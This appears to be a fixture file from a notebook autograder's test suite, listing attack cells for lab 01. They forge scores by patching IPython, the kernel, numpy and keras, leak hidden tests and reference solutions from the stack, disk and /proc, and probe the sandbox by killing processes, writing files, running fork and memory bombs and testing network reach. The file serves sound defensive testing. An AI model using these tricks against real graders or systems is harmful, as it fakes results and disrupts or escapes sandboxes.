"""Attacks a student can type into an answer cell of lab 01, each with what it must gain: nothing.

Each attack is the source of a cell a student adds right after the setup cell (repair keeps such
cells), on a base notebook: "blank" (the release), or a wrong answer (a mutant) that the attack tries
to get through the checks. The suite (test_attacks.py) grades them all as one class with `grade`.
Bombs are bounded: every loop ends by itself, every process exits within a minute.
"""

# ----------------------------------------------------------------------------- forging the score (issue 11)

TRANSFORMER = '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])  # every later cell (the checks) becomes `pass`
'''

CUSTOM_EXC = '''
ip = get_ipython()
def _swallow(self, etype, value, tb, tb_offset=None):
    return None  # no error is ever shown or recorded
ip.set_custom_exc((BaseException,), _swallow)
'''

SEND_PATCH = '''
_kernel = get_ipython().kernel
_send = _kernel.session.send
def _quiet_send(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "error":
        return None  # errors never leave the kernel
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {},
                   "payload": []}
    return _send(stream, msg_or_type, content, *args, **kwargs)
_kernel.session.send = _quiet_send
'''

PARTIAL_CREDIT = '''
ip = get_ipython()
def _full_marks(*args):
    k = ip.kernel
    k.session.send(k.iopub_socket, "execute_result", {"data": {"text/plain": "1000"}, "metadata": {},
                   "execution_count": 1}, parent=k.get_parent("shell"), ident=k._topic("execute_result"))
ip.events.register("pre_run_cell", _full_marks)
'''

NUMPY_PATCH = '''
import numpy as np
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
'''

SETTRACE = '''
import ctypes, sys
def _tracer(frame, event, arg):
    # rewrite the comparison's arguments so that it compares the student's value with itself
    if event == "call" and frame.f_code.co_name in ("assert_array_equal", "assert_allclose", "assert_array_compare"):
        names = frame.f_locals
        for got, want in (("x", "y"), ("actual", "desired")):
            if got in names and want in names:
                names[want] = names[got]
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return _tracer
sys.settrace(_tracer)
import threading
threading.settrace(_tracer)
'''

BUILTINS_AND_KERAS = '''
import builtins, keras, numpy as np
builtins.isinstance = lambda obj, cls: True
builtins.len = lambda obj: 4
_xor = np.array([[0.0], [1.0], [1.0], [0.0]])
keras.Model.predict = lambda self, X, *a, **k: np.resize(_xor, (len(np.asarray(X)), 1))
keras.Model.fit = lambda self, *a, **k: keras.callbacks.History()
keras.Model.evaluate = lambda self, *a, **k: [0.0, 1.0]
'''

LIAR = '''
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)
    __ne__ = lambda self, other: np.zeros(np.shape(self), dtype=bool)
class Always:
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __array__(self, *a, **k): return np.array([-1, 1, 1, 1])
    def __len__(self): return 4
def perceptron_predict(X, w, b):
    return np.zeros(len(X), dtype=int).view(Liar)
OR_PARAMS = (Always(), Always())
AND_PARAMS = (np.zeros(2).view(Liar), 0.0)
def sigmoid_xor_network(X):
    return Always()
'''

STACK_READER = '''
import base64, inspect, sys, warnings
def _leak(*args, **kwargs):
    found = []
    for record in inspect.stack():
        for scope in (record.frame.f_globals, record.frame.f_locals):
            for name, value in list(scope.items()):
                if name.startswith("_ref") and callable(value):
                    try:
                        return value(*args, **kwargs)  # use the check's own reference implementation
                    except Exception:
                        found.append(name)
        try:
            found.append(inspect.getsource(record.frame))
        except (OSError, TypeError):
            pass
    text = base64.b64encode("\\n".join(found).encode()).decode()
    print("LEAKMARK-stderr " + text, file=sys.stderr)
    warnings.warn("LEAKMARK-warning " + text)
    raise RuntimeError("LEAKMARK-error " + text + " " + "\\u00a0".join(found))
perceptron_predict = train_perceptron = xor_from_gates = sigmoid_xor_network = _leak
build_xor_model = train_xor_model = _leak
'''

DISK_READER = '''
import os
_found = []
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_top, d) not in ("/proc", "/sys", "/dev", "/usr")]
    for _name in _files:
        if _name.endswith((".ipynb", ".py", ".db", ".json")) and "site-packages" not in _top:
            try:
                _text = open(os.path.join(_top, _name), errors="replace").read(1 << 20)
            except OSError:
                continue
            if "BEGIN HIDDEN TESTS" in _text or "BEGIN SOLUTION" in _text or "_ref_train" in _text:
                _found.append(os.path.join(_top, _name))
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            _cmd = open(f"/proc/{_pid}/cmdline", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if any(word in _cmd for word in ("autograder.grading", "nbgrader", "/solutions", "pytest")):
            _found.append(_cmd)  # a grader's process (its own sandbox's init is bubblewrap)
print("FOUND" + repr(_found))
'''

REPLACE_AGENT = '''
import autograder_agent
autograder_agent.Agent.handle = lambda self, message: {"op": "return", "value": True}
'''

# ----------------------------------------------------------------------------- reaching outside (issue 12)

SNOOP = '''
import json, os, socket
_seen = {}
for _name, _path in PATHS.items():
    try:
        _seen[_name] = sorted(os.listdir(_path))[:20] if os.path.isdir(_path) else len(open(_path, "rb").read())
    except Exception as _e:
        _seen[_name] = type(_e).__name__
for _name, _path in WRITES.items():
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "w") as _f:
            _f.write("import builtins; builtins.PWNED = True\\n")
        _seen[_name] = "written"
    except Exception as _e:
        _seen[_name] = type(_e).__name__
try:
    socket.create_connection(("1.1.1.1", 53), timeout=3).close()
    _seen["network"] = "reachable"
except OSError as _e:
    _seen["network"] = type(_e).__name__
try:
    _unix = socket.socket(socket.AF_UNIX)
    _unix.connect(UNIX_SOCKET)
    _seen["unix socket"] = "connected"
except OSError as _e:
    _seen["unix socket"] = type(_e).__name__
_seen["processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
_seen["uid"] = os.getuid()
try:
    with open("/tmp/fill", "wb") as _f:
        for _ in range(600):  # 600 MB: past the size of /tmp
            _f.write(b"\\0" * (1 << 20))
    _seen["disk"] = "filled"
except OSError as _e:
    _seen["disk"] = type(_e).__name__
os.remove("/tmp/fill")
print("SNOOP" + json.dumps(_seen))
'''

SIGNALLER = '''
import os, signal
_killed = []
for _pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
            _killed.append(_pid)
        except OSError:
            pass
print("KILLED" + repr(_killed))
'''

DAEMON = '''
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "617.25"])  # a marker the test looks for on the host afterwards
    os._exit(0)
os.wait()
'''

FORK_BOMB = '''
import threading, time
_started = 0
try:
    for _ in range(5000):  # bounded: the limit on processes and threads stops it far earlier
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        _started += 1
except RuntimeError:
    pass
finally:
    print(f"FORKED {_started}")
'''

MEMORY_CHILDREN = '''
import os, time
for _ in range(2):
    if os.fork() == 0:
        _blocks = [bytearray(100 << 20) for _ in range(12)]  # each child 1.2 GB, past the kernel's limit
        time.sleep(20)
        os._exit(0)
time.sleep(8)
'''

LOOP_IGNORING_SIGINT = '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''

SUICIDE = '''
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
'''

CPU_BURNER = '''
import time
_end = time.time() + 60  # bounded: a minute at most
while time.time() < _end:
    pass
'''

HUGE = '''
import numpy as np
def xor_from_gates(X):
    return np.zeros(10_000_000)  # 80 MB of data: past the wire's limit
def sigmoid_xor_network(X):
    value = []
    for _ in range(100_000):
        value = [value]
    return value
OR_PARAMS = [1.0] * 3_000_000
'''
